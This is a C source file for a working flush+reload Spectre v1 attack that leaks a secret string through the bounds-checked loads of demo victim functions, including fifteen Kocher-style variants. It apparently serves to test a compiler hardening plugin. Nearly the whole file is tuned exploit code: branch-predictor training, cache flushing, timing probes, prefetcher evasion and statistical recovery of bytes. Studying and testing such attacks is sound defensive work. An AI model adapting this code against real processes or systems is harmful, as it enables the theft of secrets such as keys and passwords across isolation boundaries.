/* attack.c - a flush+reload Spectre v1 attack on the victims of victim.c,
   kocher.c and hand.c, for x86-64.

   Never compile this file with -fplugin=nospec: only the victims are meant
   to be hardened.  The attack runs in the victim's process (like Kocher's
   proof of concept) and reads the secret string through the victim's
   bounds-checked load, never directly.

   One try, with malicious index bad_x:
     1. draw a fresh random order of the 256 probe lines (xorshift, below);
     2. flush every probe line of array2;
     3. call the victim 30 times: 25 in-bounds calls train the check to
        "in bounds", 5 calls (every sixth, the last one included) pass
        bad_x; before each call the line the check reads (array1_size,
        v06's mask, v07's last_x, v09's flag) is flushed, so the check
        waits for memory while the processor runs ahead on the prediction;
        x is selected without a branch so that the branch history is the
        same for every call;
     4. time one load from each of the 256 probe lines in the order of
        step 1: a fast line is a value the victim loaded under speculation
        (or noise).
   The order must be new for every try: a fixed order, even a scrambled
   one such as (i * 167 + 13) & 255, is learned by the prefetcher of AMD's
   Zen 5, which then fills about 180 of the 256 lines before they are
   timed, with no victim call at all.

   Tries come in pairs: an attack try, whose bad_x makes the victim read
   the secret byte, and a control try, identical except that its "bad" x
   is an in-bounds index (a public byte of array1 whose value is known and
   never scored).  The two run in a random order.  Per value,
     score = hits in attack tries - hits in control tries,
   so whatever lights a line in both (prefetching, other processes, the
   timing threshold being too generous) cancels out, and what remains is
   what the out-of-bounds index alone did.

   Deciding: see clear_leader.  A byte is leaked only when its best value
   beats the runner-up and the median of all scored values by a margin
   measured against the noise of this very run, never by a fixed count of
   hits alone.  Pairs repeat until one value leads clearly or --tries
   pairs have run; a byte without a clear leader gets a second round with
   fresh scores.  The cache-hit threshold is calibrated at start-up from
   the timing of known-cached and flushed lines.

   Adapted per variant: see init_variants and the x_* and call_* helpers.
   Variant 10 leaks through a comparison (array1[x] == k), one bit per
   guess: every candidate k is tried (attack try and control try each) and
   one probe line (array2[0]) says whether the guess was right.

   Output: one line per byte, then
     recovered: "..."
     clear but wrong: W, unclear: U, right by chance expected: C
     hits per try: real byte R, any other value O (T tries)
     control hits per try: real byte R, any other value O, lines per try L
     leaked N of M bytes
   N counts bytes recovered correctly AND with a clear leader; M the bytes
   attacked.  Values present in array1 (0 to 16) are never scored: the
   in-bounds training calls, the control tries, and a hardened victim
   whose index was masked to 0, load them architecturally.  A clear guess
   that carried no information is right with probability 1/239 (C sums
   that over the clear guesses).  R and O are hits per try on the real
   byte's probe line and on an average other scored line, in attack tries
   and in control tries; L is the number of scored lines that looked
   cached in an average control try (prefetcher and other noise).

   Usage: attack [--variant N] [--bytes N] [--tries N] [--seed N]
                 [--order random|fixed] [--quiet] [--list]
     --variant 0 (default) attacks victim_function of victim.c,
     1 to 15 the classic examples of kocher.c (link kocher.o or hand.o);
     --order fixed reloads in the old fixed order (to see the prefetcher's
     effect; the result is then not trustworthy).  */

#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <x86intrin.h>

#include "victim.h"

/* kocher.o (or hand.o) is optional: the demo links victim.o alone.  */
#pragma weak victim_v01
#pragma weak victim_v02
#pragma weak victim_v03
#pragma weak victim_v04
#pragma weak victim_v05
#pragma weak victim_v06
#pragma weak victim_v07
#pragma weak victim_v08
#pragma weak victim_v09
#pragma weak victim_v10
#pragma weak victim_v11
#pragma weak victim_v12
#pragma weak victim_v13
#pragma weak victim_v14
#pragma weak victim_v15

#define CALLS_PER_TRY 30
#define CALLS_PER_ATTACK 6      /* every 6th call is the malicious one */
/* Iterations of a volatile loop between the flushes and the call: with
   much less (100), the bounds check was mispredicted in about 1% of the
   tries on the AMD EPYC (Zen 4) VM this was written on; with 300, in
   nearly all of them.  */
#define FLUSH_DELAY 300
#define DEFAULT_TRIES 400       /* pairs of tries per byte and round */
#define DEFAULT_GUESS_PASSES 12 /* v10: passes over the guesses */
#define MIN_GUESS_PASSES 6      /* v10: passes before the first decision */
#define ROUNDS 2

/* Arguments other than x, chosen without branches by the call wrappers.  */
static int safe_flag __attribute__ ((aligned (64)));   /* v09 */
static size_t x_cell __attribute__ ((aligned (64)));   /* v15 */
static uint8_t k_train, k_guess;                       /* v10 */
static size_t y_train = 0, y_attack = 5;              /* v12 */

static unsigned int hit_threshold;
static int excluded[256];       /* values present in array1 */
static int skipped[256];        /* values not scored for the current byte */

/* x from the training value and the malicious one: the malicious one when
   MASK is all ones, without a branch.  */
static inline size_t
select_x (size_t train, size_t malicious, size_t mask)
{
  return train ^ (mask & (malicious ^ train));
}

static void call_v00 (size_t x, size_t m) { (void) m; victim_function (x); }
static void call_v01 (size_t x, size_t m) { (void) m; victim_v01 (x); }
static void call_v02 (size_t x, size_t m) { (void) m; victim_v02 (x); }
static void call_v03 (size_t x, size_t m) { (void) m; victim_v03 (x); }
static void call_v04 (size_t x, size_t m) { (void) m; victim_v04 (x); }
static void call_v05 (size_t x, size_t m) { (void) m; victim_v05 (x); }
static void call_v06 (size_t x, size_t m) { (void) m; victim_v06 (x); }
static void call_v07 (size_t x, size_t m) { (void) m; victim_v07 (x); }
static void call_v08 (size_t x, size_t m) { (void) m; victim_v08 (x); }
static void call_v09 (size_t x, size_t m) { (void) m; victim_v09 (x, &safe_flag); }
static void call_v11 (size_t x, size_t m) { (void) m; victim_v11 (x); }
static void call_v13 (size_t x, size_t m) { (void) m; victim_v13 (x); }
static void call_v14 (size_t x, size_t m) { (void) m; victim_v14 (x); }

static void
call_v10 (size_t x, size_t m)
{
  victim_v10 (x, (uint8_t) select_x (k_train, k_guess, m));
}

static void
call_v12 (size_t x, size_t m)
{
  size_t y = select_x (y_train, y_attack, m);
  victim_v12 (x - y, y);
}

static void
call_v15 (size_t x, size_t m)
{
  (void) m;
  x_cell = x;
  victim_v15 (&x_cell);
}

/* v09: the flag says "safe" on training calls only; it is written before
   the lines are flushed, so the check waits for memory.  */
static void prep_v09 (size_t m) { safe_flag = (int) (~m & 1); }

/* x that makes the victim read array1[off]; 0 when off is unreachable.  */
static int x_plain (size_t off, size_t *x) { *x = off; return 1; }
static int x_v04 (size_t off, size_t *x) { *x = off >> 1; return (off & 1) == 0; }
static int x_v05 (size_t off, size_t *x) { *x = off + 1; return 1; }
static int x_v08 (size_t off, size_t *x) { *x = off - 1; return 1; }
static int x_v14 (size_t off, size_t *x) { *x = off ^ 255; return 1; }

enum probe_kind { PROBE_VALUE, PROBE_GUESS };

struct variant
{
  int id;
  const char *shape;
  void (*call) (size_t x, size_t m);
  void (*prep) (size_t m);
  int (*target_x) (size_t off, size_t *x);
  void *present;                /* a symbol of the victim's object file */
  int reads_prefix;             /* also loads the bytes below the target */
  volatile void *slow[2];       /* flushed before every call */
  enum probe_kind probe;
};

static struct variant variants[16];

static void
init_variants (void)
{
  static const struct
  {
    const char *shape;
    void (*call) (size_t, size_t);
    int (*target_x) (size_t, size_t *);
    void *present;
  } table[16] = {
    { "victim_function: if (x < array1_size) array2[array1[x] * 512]",
      call_v00, x_plain, (void *) victim_function },
    { "v01 classic two-level load", call_v01, x_plain, (void *) victim_v01 },
    { "v02 leak in an inlinable helper", call_v02, x_plain,
      (void *) victim_v02 },
    { "v03 leak in a noinline helper", call_v03, x_plain,
      (void *) victim_v03 },
    { "v04 index x << 1", call_v04, x_v04, (void *) victim_v04 },
    { "v05 loop down from x - 1", call_v05, x_v05, (void *) victim_v05 },
    { "v06 check (x & mask) == x", call_v06, x_plain, (void *) victim_v06 },
    { "v07 check x == last_x", call_v07, x_plain, (void *) victim_v07 },
    { "v08 ternary in the index", call_v08, x_v08, (void *) victim_v08 },
    { "v09 separate is-safe flag", call_v09, x_plain, (void *) victim_v09 },
    { "v10 leak through array1[x] == k", call_v10, x_plain,
      (void *) victim_v10 },
    { "v11 leak through memcmp", call_v11, x_plain, (void *) victim_v11 },
    { "v12 check and index on x + y", call_v12, x_plain,
      (void *) victim_v12 },
    { "v13 check in an inline predicate", call_v13, x_plain,
      (void *) victim_v13 },
    { "v14 index x ^ 255", call_v14, x_v14, (void *) victim_v14 },
    { "v15 index passed by pointer", call_v15, x_plain, (void *) victim_v15 },
  };
  int i;

  for (i = 0; i < 16; i++)
    {
      struct variant *v = &variants[i];
      v->id = i;
      v->shape = table[i].shape;
      v->call = table[i].call;
      v->target_x = table[i].target_x;
      v->present = table[i].present;
      v->slow[0] = &array1_size;
      v->slow[1] = NULL;
      v->prep = NULL;
      v->probe = PROBE_VALUE;
      v->reads_prefix = 0;
    }
  /* v05's loop goes on down from the target under the same misprediction:
     byte p lights up the values of bytes 0 to p.  Values already recovered
     for earlier bytes are not scored, so byte p shows only if its value is
     new; a repeated value stays unclear.  */
  variants[5].reads_prefix = 1;
  variants[6].slow[0] = &array_size_mask;
  variants[7].slow[0] = &v07_last_x;
  variants[9].slow[0] = &safe_flag;
  variants[9].prep = prep_v09;
  variants[10].probe = PROBE_GUESS;
}

/* A small, fast PRNG (Marsaglia's xorshift64): shuffles the probe order
   and picks the training and control indices.  Never libc's rand, which
   may take a lock and touch memory between the victim call and the
   reload.  */
static uint64_t rng_state = 0x9E3779B97F4A7C15ull;

static inline uint64_t
rng_next (void)
{
  uint64_t s = rng_state;

  s ^= s << 13;
  s ^= s >> 7;
  s ^= s << 17;
  rng_state = s;
  return s;
}

/* A number in [0, n), n <= 2^32, by multiply and shift.  */
static inline unsigned int
rng_below (unsigned int n)
{
  return (unsigned int) (((rng_next () >> 32) * (uint64_t) n) >> 32);
}

static int fixed_order;         /* --order fixed */
static uint8_t probe_order[256];

/* Step 1 of a try: a fresh Fisher-Yates permutation of the 256 values.  */
static void
shuffle_probe_order (void)
{
  int i;

  for (i = 0; i < 256; i++)
    probe_order[i] = fixed_order ? (uint8_t) ((i * 167 + 13) & 255)
                                 : (uint8_t) i;
  if (fixed_order)
    return;
  for (i = 255; i > 0; i--)
    {
      unsigned int j = rng_below ((unsigned int) i + 1);
      uint8_t t = probe_order[i];
      probe_order[i] = probe_order[j];
      probe_order[j] = t;
    }
}

static inline unsigned int
time_load (const volatile uint8_t *p)
{
  unsigned int aux;
  uint64_t start, end;

  start = __rdtscp (&aux);
  (void) *p;
  end = __rdtscp (&aux);
  return (unsigned int) (end - start);
}

static int
compare_uint (const void *a, const void *b)
{
  unsigned int x = *(const unsigned int *) a, y = *(const unsigned int *) b;
  return x < y ? -1 : x > y;
}

/* Square root by Newton's method (V >= 0): keeps the attack free of
   libm, which the demo does not link.  */
static double
root (double v)
{
  double r = v > 1.0 ? v : 1.0;
  int i;

  if (v <= 0.0)
    return 0.0;
  for (i = 0; i < 64; i++)
    r = 0.5 * (r + v / r);
  return r;
}

static int
compare_int (const void *a, const void *b)
{
  int x = *(const int *) a, y = *(const int *) b;
  return x < y ? -1 : x > y;
}

/* Threshold between a cached line and a flushed one, from this machine's
   timings: halfway between the 90th percentile of hits and the 10th
   percentile of misses.  Returns 0 when the two do not separate.  */
static int
calibrate (int quiet)
{
  enum { SAMPLES = 4000 };
  static unsigned int hit[SAMPLES], miss[SAMPLES];
  volatile uint8_t *line;
  unsigned int hit90, miss10;
  int i;

  for (i = 0; i < SAMPLES; i++)
    {
      line = &array2[rng_below (256) * ARRAY2_STRIDE];
      (void) *line;
      _mm_mfence ();
      hit[i] = time_load (line);
      _mm_clflush ((const void *) line);
      _mm_mfence ();
      miss[i] = time_load (line);
    }
  qsort (hit, SAMPLES, sizeof hit[0], compare_uint);
  qsort (miss, SAMPLES, sizeof miss[0], compare_uint);
  hit90 = hit[SAMPLES * 9 / 10];
  miss10 = miss[SAMPLES / 10];
  if (!quiet)
    printf ("calibration: cached line %u cycles (median), flushed line %u "
            "cycles (median)\n", hit[SAMPLES / 2], miss[SAMPLES / 2]);
  if (miss10 <= hit90)
    return 0;
  hit_threshold = hit90 + (miss10 - hit90) / 2;
  if (!quiet)
    printf ("calibration: hit threshold %u cycles (hit p90 %u, miss p10 "
            "%u)\n", hit_threshold, hit90, miss10);
  return 1;
}

/* An in-bounds x, random: consecutive values would load array2 with a
   constant stride from try to try, and the stride prefetcher would then
   fill the lines of the values that follow.  */
static size_t
random_in_bounds_x (void)
{
  return rng_below (array1_size);
}

static void
flush_probe_lines (void)
{
  int i;

  for (i = 0; i < 256; i++)
    _mm_clflush (&array2[i * ARRAY2_STRIDE]);
}

/* Step 3 of a try: 30 calls, every 6th one (the last one included) with
   bad_x.  */
static void
train_and_attack (const struct variant *v, size_t train_x, size_t bad_x)
{
  int j;
  volatile int delay;

  for (j = CALLS_PER_TRY - 1; j >= 0; j--)
    {
      size_t mask;

      /* All ones when j % 6 == 0, else 0, without a branch.  */
      mask = ((j % CALLS_PER_ATTACK) - 1) & ~0xFFFF;
      mask = mask | (mask >> 16);
      if (v->prep)
        v->prep (mask);
      _mm_clflush ((const void *) v->slow[0]);
      if (v->slow[1])
        _mm_clflush ((const void *) v->slow[1]);
      _mm_mfence ();
      for (delay = 0; delay < FLUSH_DELAY; delay++)
        ;
      v->call (select_x (train_x, bad_x, mask), mask);
    }
}

/* One try of the value probe: adds 1 to HITS[v] for every probe line v
   that looked cached.  */
static void
value_try (const struct variant *v, size_t bad_x, int *hits)
{
  int i;

  shuffle_probe_order ();
  flush_probe_lines ();
  train_and_attack (v, random_in_bounds_x (), bad_x);
  for (i = 0; i < 256; i++)
    {
      int value = probe_order[i];
      if (time_load (&array2[value * ARRAY2_STRIDE]) <= hit_threshold)
        hits[value]++;
    }
}

struct scores
{
  int attack[256];              /* hits in attack tries, per value */
  int control[256];             /* hits in control tries, per value */
  int pairs;
};

struct byte_result
{
  int value;                    /* best value, -1 when none is scored */
  int score, runner_up, median; /* attack - control hits */
  double noise;                 /* spread of the scores, see clear_leader */
  int clear;
  int pairs;
};

/* The decision, relative to this run's own noise.

   Scores are attack hits minus control hits over the scored values (239
   of them; values present in array1 are skipped).  Without a leak every
   score is the difference of two counts of the same noise, centred on
   the median.  NOISE, the spread of that bulk, is the largest of
     - the standard deviation of the difference of two Poisson counts,
       sqrt of the mean over the scored values of attack + control hits
       (for hits as rare as here, the exact figure; for frequent hits,
       binomial rather than Poisson, an overestimate);
     - 1.4826 times the median absolute deviation of the scores from
       their median (the standard deviation for normal noise; catches
       noise wider than Poisson, and one leaked value cannot move it; on
       its own it was too small: scores are integers, and with a spread of
       about 2 hits the MAD rounds down to 1, which let 1 in 150 byte
       rounds of simulated pure noise pass the test below);
     - 1 hit.

   A byte counts as leaked only when the best value
     - beats the runner-up by LEAD_SIGMAS (3) noise units and at least
       MIN_LEAD (5) hits: the best of 239 noise values is rarely more than
       one noise unit above the second best, so a lead of 3 says the best
       value is not just the luckiest of the noise; and
     - beats the median by MEDIAN_SIGMAS (6) noise units and at least
       MIN_LEAD hits: the best of 239 noise values lies about 2.8 units
       above the median, so 6 units cannot be the tail of the noise.
   Both margins scale with the noise: on a busy machine (other processes
   evicting and filling lines, a prefetcher guessing) the attack simply
   needs more pairs; a fixed hit count would either accept noise there or
   demand too much on a quiet machine.  The floors of MIN_LEAD hits keep a
   handful of lucky hits from deciding anything when the noise is near
   zero.  Simulated pure noise (hit rates 0.002 to 0.69 per line and try,
   the test applied every 4 pairs as below, 1,400 byte rounds): no byte
   passed.  */
#define LEAD_SIGMAS 3.0
#define MEDIAN_SIGMAS 6.0
#define MIN_LEAD 5
#define MIN_PAIRS 8             /* pairs before the first decision */

static void
clear_leader (const struct scores *s, struct byte_result *r)
{
  int score[256], sorted[256], dev[256];
  int i, n = 0, best = -1, second = -1;
  long both = 0;
  double lead_margin, median_margin, poisson;

  for (i = 0; i < 256; i++)
    {
      score[i] = s->attack[i] - s->control[i];
      if (skipped[i])
        continue;
      sorted[n++] = score[i];
      both += s->attack[i] + s->control[i];
      if (best < 0 || score[i] > score[best])
        {
          second = best;
          best = i;
        }
      else if (second < 0 || score[i] > score[second])
        second = i;
    }
  r->pairs = s->pairs;
  r->value = best;
  r->clear = 0;
  if (best < 0 || second < 0)
    return;
  qsort (sorted, n, sizeof sorted[0], compare_int);
  r->median = sorted[n / 2];
  for (i = 0; i < n; i++)
    dev[i] = abs (sorted[i] - r->median);
  qsort (dev, n, sizeof dev[0], compare_int);
  r->noise = 1.4826 * dev[n / 2];
  poisson = root ((double) both / n);
  if (r->noise < poisson)
    r->noise = poisson;
  if (r->noise < 1.0)
    r->noise = 1.0;
  r->score = score[best];
  r->runner_up = score[second];
  lead_margin = LEAD_SIGMAS * r->noise;
  if (lead_margin < MIN_LEAD)
    lead_margin = MIN_LEAD;
  median_margin = MEDIAN_SIGMAS * r->noise;
  if (median_margin < MIN_LEAD)
    median_margin = MIN_LEAD;
  r->clear = (r->score - r->runner_up >= lead_margin
              && r->score - r->median >= median_margin);
}

/* One byte through the value probe: pairs of an attack try and a control
   try, in random order.  */
static void
leak_value (const struct variant *v, size_t bad_x, int max_pairs,
            struct scores *s, struct byte_result *r)
{
  int t;

  for (t = 0; t < max_pairs; t++)
    {
      size_t ctrl_x = random_in_bounds_x ();

      if (rng_next () & 1)
        {
          value_try (v, bad_x, s->attack);
          value_try (v, ctrl_x, s->control);
        }
      else
        {
          value_try (v, ctrl_x, s->control);
          value_try (v, bad_x, s->attack);
        }
      s->pairs = t + 1;
      if (s->pairs >= MIN_PAIRS && s->pairs % 4 == 0)
        {
          clear_leader (s, r);
          if (r->clear)
            return;
        }
    }
  clear_leader (s, r);
}

/* One try of v10's comparison with guess K: 1 when array2[0] looked
   cached.  Training calls compare unequal: the inner branch learns "not
   taken", so array2[0] is loaded only when the malicious call's
   comparison, resolved under the outer misprediction, says equal
   (trained "taken", the load would be issued for every guess before the
   comparison is known).  */
static int
guess_try (const struct variant *v, size_t bad_x, int k)
{
  size_t train_x = random_in_bounds_x ();

  k_train = (uint8_t) ~array1[train_x];
  k_guess = (uint8_t) k;
  _mm_clflush (&array2[0]);
  train_and_attack (v, train_x, bad_x);
  return time_load (&array2[0]) <= hit_threshold;
}

/* One byte through v10's comparison: each pass tries every candidate k
   in a random order, each attack try paired with a control try (an
   in-bounds x, whose public byte, a value never scored, differs from every
   k tried).  The control tries take the candidates in a second, independent
   random order: on the Zen 5 this was measured on, a control try run just
   after the attack try on the right guess hit array2[0] in about half the
   pairs (in some code layouts only; the branch predictor seems to keep
   something of the speculative "equal"), which would subtract the leak
   from its own score; with independent orders that spill lands on a
   random guess and counts as noise.  */
static void
leak_guess (const struct variant *v, size_t bad_x, int passes,
            struct scores *s, struct byte_result *r)
{
  uint8_t attack_order[256];
  int pass, i, j;

  for (pass = 0; pass < passes; pass++)
    {
      shuffle_probe_order ();
      memcpy (attack_order, probe_order, sizeof attack_order);
      shuffle_probe_order ();
      for (i = 0, j = 0; i < 256; i++)
        {
          int guess = attack_order[i], ctrl_guess;
          size_t ctrl_x = random_in_bounds_x ();

          if (skipped[guess])
            continue;
          while (skipped[probe_order[j]])
            j++;
          ctrl_guess = probe_order[j++];
          if (rng_next () & 1)
            {
              s->attack[guess] += guess_try (v, bad_x, guess);
              s->control[ctrl_guess] += guess_try (v, ctrl_x, ctrl_guess);
            }
          else
            {
              s->control[ctrl_guess] += guess_try (v, ctrl_x, ctrl_guess);
              s->attack[guess] += guess_try (v, bad_x, guess);
            }
        }
      s->pairs = pass + 1;
      if (s->pairs >= MIN_GUESS_PASSES)
        {
          clear_leader (s, r);
          if (r->clear)
            return;
        }
    }
  clear_leader (s, r);
}

static int
printable (int c)
{
  return c >= 32 && c < 127 ? c : '?';
}

static void
usage (FILE *out)
{
  fprintf (out,
           "usage: attack [--variant N] [--bytes N] [--tries N] [--seed N]\n"
           "              [--order random|fixed] [--quiet] [--list]\n"
           "  --variant 0   victim_function of victim.c (default)\n"
           "  --variant 1..15  the classic examples of kocher.c\n"
           "  --bytes N     leak the first N bytes of the secret\n"
           "  --tries N     pairs of tries (attack, control) per byte and "
           "round\n"
           "                (default %d; for variant 10, passes over all "
           "guesses,\n"
           "                default %d)\n"
           "  --seed N      seed of the random probe order (default: from "
           "the clock)\n"
           "  --order fixed reload in a fixed order (shows the prefetcher "
           "at work;\n"
           "                results are then not trustworthy)\n"
           "  --list        list the variants\n",
           DEFAULT_TRIES, DEFAULT_GUESS_PASSES);
}

int
main (int argc, char **argv)
{
  const struct variant *v;
  const uint8_t *secret_bytes = (const uint8_t *) secret;
  size_t secret_len = strlen (secret);
  size_t nbytes = secret_len, p;
  int variant = 0, tries = 0, quiet = 0, i;
  int attempted = 0, leaked = 0, clear_wrong = 0, unclear = 0;
  int seen[256] = { 0 }, scored_values = 0;
  long tries_total = 0, real_hits = 0, real_control = 0;
  double other_hits = 0, other_control = 0, control_lines = 0, chance = 0;
  long control_pairs = 0;
  unsigned long long seed = 0;
  char recovered[256];

  for (i = 1; i < argc; i++)
    {
      if (strcmp (argv[i], "--variant") == 0 && i + 1 < argc)
        variant = atoi (argv[++i]);
      else if (strcmp (argv[i], "--bytes") == 0 && i + 1 < argc)
        nbytes = (size_t) atoi (argv[++i]);
      else if (strcmp (argv[i], "--tries") == 0 && i + 1 < argc)
        tries = atoi (argv[++i]);
      else if (strcmp (argv[i], "--seed") == 0 && i + 1 < argc)
        seed = strtoull (argv[++i], NULL, 0);
      else if (strcmp (argv[i], "--order") == 0 && i + 1 < argc
               && (strcmp (argv[i + 1], "random") == 0
                   || strcmp (argv[i + 1], "fixed") == 0))
        fixed_order = strcmp (argv[++i], "fixed") == 0;
      else if (strcmp (argv[i], "--quiet") == 0)
        quiet = 1;
      else if (strcmp (argv[i], "--list") == 0)
        {
          init_variants ();
          for (variant = 0; variant < 16; variant++)
            printf ("%2d %s%s\n", variant, variants[variant].shape,
                    variants[variant].present ? "" : " (not linked)");
          return 0;
        }
      else
        {
          usage (strcmp (argv[i], "--help") == 0 ? stdout : stderr);
          return strcmp (argv[i], "--help") == 0 ? 0 : 2;
        }
    }
  if (variant < 0 || variant > 15)
    {
      usage (stderr);
      return 2;
    }
  init_variants ();
  v = &variants[variant];
  if (!v->present)
    {
      fprintf (stderr, "attack: variant %d is not linked in (link "
               "kocher.o)\n", variant);
      return 2;
    }
  if (nbytes > secret_len)
    nbytes = secret_len;
  if (nbytes >= sizeof recovered)
    nbytes = sizeof recovered - 1;
  if (tries <= 0)
    tries = v->probe == PROBE_GUESS ? DEFAULT_GUESS_PASSES : DEFAULT_TRIES;
  if (seed == 0)
    seed = __rdtsc ();
  rng_state = seed | 1;         /* xorshift's state must not be 0 */

  /* Touch array2 so that no page is left copy-on-write or unmapped.  */
  for (i = 0; i < (int) sizeof array2; i++)
    array2[i] = 1;
  for (i = 0; i < ARRAY1_STORAGE; i++)
    excluded[array1[i]] = 1;
  if (!calibrate (quiet))
    {
      fprintf (stderr, "attack: cached and flushed lines take the same "
               "time here; cannot measure\n");
      return 2;
    }
  if (!quiet)
    printf ("target: %s\nsecret: %zu bytes at array1%+td\n"
            "probe order: %s (seed %llu)\n", v->shape, secret_len,
            (ptrdiff_t) (secret_bytes - array1),
            fixed_order ? "fixed (i * 167 + 13) & 255" : "random per try",
            seed);

  for (p = 0; p < nbytes; p++)
    {
      size_t off = (size_t) (secret_bytes + p - array1);
      size_t bad_x;
      struct byte_result r;
      int round, real = secret_bytes[p];

      if (!v->target_x (off, &bad_x))
        {
          recovered[p] = '_';
          if (!quiet)
            printf ("byte %2zu: unreachable with this index shape\n", p);
          continue;
        }
      attempted++;
      scored_values = 0;
      for (i = 0; i < 256; i++)
        {
          skipped[i] = excluded[i] || (v->reads_prefix && seen[i]);
          scored_values += !skipped[i];
        }
      for (round = 0; round < ROUNDS; round++)
        {
          static struct scores s;
          long tries_this;

          memset (&s, 0, sizeof s);
          if (v->probe == PROBE_GUESS)
            leak_guess (v, bad_x, tries, &s, &r);
          else
            leak_value (v, bad_x, tries, &s, &r);
          /* For v10 a pass is one try per guess, and each guess has its
             own line: per guess, the tries are the passes.  */
          tries_this = s.pairs;
          if (!skipped[real])
            {
              tries_total += tries_this;
              real_hits += s.attack[real];
              real_control += s.control[real];
              for (i = 0; i < 256; i++)
                if (!skipped[i] && i != real)
                  {
                    other_hits += s.attack[i] / (double) (scored_values - 1);
                    other_control
                      += s.control[i] / (double) (scored_values - 1);
                  }
            }
          if (v->probe == PROBE_VALUE)
            control_pairs += s.pairs;
          if (v->probe == PROBE_VALUE)
            for (i = 0; i < 256; i++)
              if (!skipped[i])
                control_lines += s.control[i];
          if (r.clear)
            break;
        }
      if (r.clear)
        {
          seen[r.value] = 1;
          chance += 1.0 / scored_values;
        }
      if (r.clear && r.value == real)
        leaked++;
      else if (r.clear)
        clear_wrong++;
      else
        unclear++;
      recovered[p] = r.clear ? (char) printable (r.value) : '?';
      if (!quiet)
        {
          if (r.value < 0)
            printf ("byte %2zu: nothing scored  real 0x%02x '%c'\n", p,
                    real, printable (real));
          else
            printf ("byte %2zu: 0x%02x '%c' score %d, runner-up %d, median "
                    "%d, noise %.1f, %s (%d %s, round %d)  real 0x%02x "
                    "'%c'%s\n", p, r.value, printable (r.value), r.score,
                    r.runner_up, r.median, r.noise,
                    r.clear ? "clear" : "unclear", r.pairs,
                    v->probe == PROBE_GUESS ? "passes" : "pairs",
                    round < ROUNDS ? round + 1 : ROUNDS, real,
                    printable (real),
                    r.clear ? (r.value == real ? "  LEAKED" : "  wrong")
                    : "");
        }
      fflush (stdout);
    }
  recovered[nbytes] = '\0';
  printf ("recovered: \"%s\"\n", recovered);
  printf ("clear but wrong: %d, unclear: %d, right by chance expected: "
          "%.2f\n", clear_wrong, unclear, chance);
  printf ("hits per try: real byte %.4f, any other value %.4f (%ld tries)\n",
          tries_total ? real_hits / (double) tries_total : 0.0,
          tries_total ? other_hits / tries_total : 0.0, tries_total);
  printf ("control hits per try: real byte %.4f, any other value %.4f, "
          "lines per try %.2f\n",
          tries_total ? real_control / (double) tries_total : 0.0,
          tries_total ? other_control / tries_total : 0.0,
          control_pairs ? control_lines / control_pairs : 0.0);
  printf ("leaked %d of %d bytes\n", leaked, attempted);
  return 0;
}
